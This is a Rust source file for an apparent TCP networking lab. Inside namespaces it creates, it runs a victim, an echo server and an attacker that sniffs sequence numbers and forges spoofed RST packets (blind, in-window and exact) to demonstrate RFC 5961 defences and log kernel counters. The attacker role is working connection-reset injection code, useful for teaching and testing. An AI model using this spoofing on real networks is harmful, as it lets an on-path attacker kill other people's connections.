//! Experiment `rst_injection`: forged RSTs against an established connection, inside
//! namespaces this program creates. A victim client in the client namespace talks to the echo
//! server (connection table, verifying); an attacker in the same namespace sends RSTs that
//! claim to come from the victim, with a sequence number that is (1) random (a blind
//! attacker), (2) inside the receive window but not exact, (3) exactly the next expected one
//! (an on-path attacker who sniffed the server's ACKs). RFC 5961 §3: only an exact match
//! resets; an in-window one earns a "challenge ACK". After each: our table's state, the
//! kernel's, the counters, and whether the victim can still echo. Needs root and `ip`.

use std::io::BufRead;
use std::net::{SocketAddr, SocketAddrV4};
use std::time::Duration;

use m02_tcp_state::lab::netns::{self, Side, Topology};
use m02_tcp_state::lab::packet::{RawSender, Segment, Sniffer, XorShift, flags};
use m02_tcp_state::lab::{self, Table, roles};
use serde_json::{Value, json};

/// `--role victim --connect ADDR`: one connection; `echo` → `{"ok": …}`.
fn victim(args: &[String]) -> std::io::Result<()> {
    let addr: SocketAddr =
        netns::arg(args, "--connect").ok_or_else(|| std::io::Error::other("--connect"))?;
    let mut c = m01_raw_sockets::lab::connect(addr, Duration::from_secs(2))?;
    m01_raw_sockets::lab::echo_round_trip(&mut c, b"hello")?;
    println!("{}", json!({ "local": c.local_addr()? }));
    for line in std::io::stdin().lock().lines() {
        if line?.trim() == "echo" {
            let r = m01_raw_sockets::lab::echo_round_trip(&mut c, b"still there?");
            println!(
                "{}",
                json!({ "ok": r.is_ok(), "error": r.err().map(|e| e.to_string()) })
            );
        }
    }
    Ok(())
}

/// `--role attacker --server ADDR --victim ADDR`: sniffs the server's segments to the victim;
/// `rst blind|window|exact` sends one forged RST and prints what it used.
fn attacker(args: &[String]) -> std::io::Result<()> {
    let server: SocketAddrV4 =
        netns::arg(args, "--server").ok_or_else(|| std::io::Error::other("--server"))?;
    let victim: SocketAddrV4 =
        netns::arg(args, "--victim").ok_or_else(|| std::io::Error::other("--victim"))?;
    let sniffer = Sniffer::new(Duration::from_millis(50))?;
    let sender = RawSender::new(*server.ip())?;
    println!("{}", json!({ "ready": true }));
    let mut rng = XorShift(0xA5A5_5A5A_1234_5678);
    let mut last: Option<Segment> = None;
    for line in std::io::stdin().lock().lines() {
        let line = line?;
        let mode = line.trim().strip_prefix("rst ").unwrap_or("").to_owned();
        // Everything the server sent the victim since the last command: keep the newest.
        while let Some(seg) = sniffer.next()? {
            if seg.src == server && seg.dst == victim {
                last = Some(seg);
            }
        }
        let Some(seen) = &last else {
            println!(
                "{}",
                json!({ "error": "no segment from the server seen yet" })
            );
            continue;
        };
        // The server's ACK field is the next sequence number it expects from the victim.
        let rcv_nxt = seen.ack;
        let window = u32::from(seen.window);
        let seq = match mode.as_str() {
            "blind" => (rng.next_u64() >> 32) as u32 ^ 0x8000_0000 ^ rcv_nxt,
            "window" => rcv_nxt.wrapping_add(1000),
            _ => rcv_nxt,
        };
        sender.send(&Segment {
            src: victim,
            dst: server,
            seq,
            ack: 0,
            flags: flags::RST,
            window: 0,
            payload_len: 0,
        })?;
        println!(
            "{}",
            json!({ "mode": mode, "seq": seq, "rcv_nxt": rcv_nxt, "offset": seq.wrapping_sub(rcv_nxt), "window_field": window })
        );
    }
    Ok(())
}

fn main() -> std::process::ExitCode {
    if let Some(code) = roles::dispatch(|role, args| match role {
        "victim" => Some(victim(args)),
        "attacker" => Some(attacker(args)),
        _ => None,
    }) {
        return code;
    }
    lab::run_main(|| {
        let topo = Topology::create()?;
        let listen = netns::server_addr(7400);
        let mut server = topo.spawn_role(
            Side::Server,
            "serve",
            &["--listen".into(), listen.to_string(), "--verify".into()],
        )?;
        server.json(Duration::from_secs(10))?;
        let mut victim = topo.spawn_role(
            Side::Client,
            "victim",
            &["--connect".into(), listen.to_string()],
        )?;
        let local = victim.json(Duration::from_secs(10))?["local"]
            .as_str()
            .unwrap_or("")
            .to_owned();
        let mut attacker = topo.spawn_role(
            Side::Client,
            "attacker",
            &[
                "--server".into(),
                listen.to_string(),
                "--victim".into(),
                local.clone(),
            ],
        )?;
        attacker.json(Duration::from_secs(10))?;
        let mut t = Table::new(
            "Forged RSTs against an established connection (RFC 5961)",
            &[
                "forged RST",
                "seq − expected",
                "our table after",
                "kernel after",
                "TCPChallengeACK",
                "TcpEstabResets",
                "victim still echoes",
            ],
        );
        let find_row = |s: &Value| -> (String, String) {
            let ours = s["rows"]
                .as_array()
                .and_then(|r| r.iter().find(|r| r["peer"] == local.as_str()))
                .map_or_else(
                    || {
                        let l = s["lifecycles"]
                            .as_array()
                            .and_then(|l| l.iter().find(|l| l["peer"] == local.as_str()));
                        l.map_or("(gone)".to_owned(), |l| {
                            format!(
                                "{} (released: {})",
                                lab::path_text(&l["path"]),
                                l["note"].as_str().unwrap_or("")
                            )
                        })
                    },
                    |r| r["state"].as_str().unwrap_or("?").to_owned(),
                );
            let kernel = s["kernel"]["entries_on_port"]
                .as_array()
                .and_then(|v| v.iter().find(|e| e["remote"] == local.as_str()))
                .map_or("(gone)".to_owned(), |e| {
                    e["state"].as_str().unwrap_or("?").to_owned()
                });
            (ours, kernel)
        };
        for mode in ["blind", "window", "exact"] {
            // Fresh traffic so the attacker has the server's latest ACK number.
            victim.ask("echo", Duration::from_secs(5))?;
            let before = server.ask("stats", Duration::from_secs(5))?;
            let sent = attacker.ask(&format!("rst {mode}"), Duration::from_secs(5))?;
            std::thread::sleep(Duration::from_millis(200));
            let mid = server.ask("stats", Duration::from_secs(5))?;
            let (ours, kernel) = find_row(&mid);
            let echo = victim.ask("echo", Duration::from_secs(5))?;
            std::thread::sleep(Duration::from_millis(200));
            let after = server.ask("stats", Duration::from_secs(5))?;
            let (ours_after, _) = find_row(&after);
            t.rows.push(vec![
                match mode {
                    "blind" => "random sequence number (blind attacker)",
                    "window" => "in window, 1000 past the expected number",
                    _ => "exactly the expected number (sniffed)",
                }
                .into(),
                sent["offset"].clone(),
                if ours == ours_after {
                    ours.into()
                } else {
                    format!("{ours}; after the victim's next send: {ours_after}").into()
                },
                kernel.into(),
                lab::counter_delta(&before, &mid, "TcpExtTCPChallengeACK").into(),
                lab::counter_delta(&before, &mid, "TcpEstabResets").into(),
                if echo["ok"].as_bool() == Some(true) {
                    "yes".into()
                } else {
                    format!("no: {}", echo["error"].as_str().unwrap_or("?")).into()
                },
            ]);
            if echo["ok"].as_bool() != Some(true) {
                break;
            }
        }
        t.notes = format!(
            "Victim {local} ↔ server {listen}, attacker in the victim's namespace with a raw IPPROTO_TCP socket (it sees the \
             server's segments to the victim, like an on-path observer) and a raw IPPROTO_RAW socket (it forges the victim's \
             address). Linux follows RFC 5961 §3.2: an RST outside the window is dropped silently, an RST inside the window \
             but not at exactly RCV.NXT gets a challenge ACK (the real peer would answer it with an RST of its own only if it \
             really lost the connection), and only the exact sequence number resets. A blind attacker must therefore guess 1 of \
             2^32 numbers per try, not 1 in (2^32 / window). The exact RST reaches user space as ECONNRESET on the server's next \
             recv: our table records ESTABLISHED → CLOSED (reset) and the kernel's sample agrees; the victim learns it only when \
             it next sends (the server answers with RST). Machine: {}.",
            lab::machine()
        );
        let _ = attacker.finish(Duration::from_secs(2));
        let _ = victim.finish(Duration::from_secs(2));
        let _ = server.finish(Duration::from_secs(5));
        drop(topo);
        t.print();
        Ok(())
    })
}
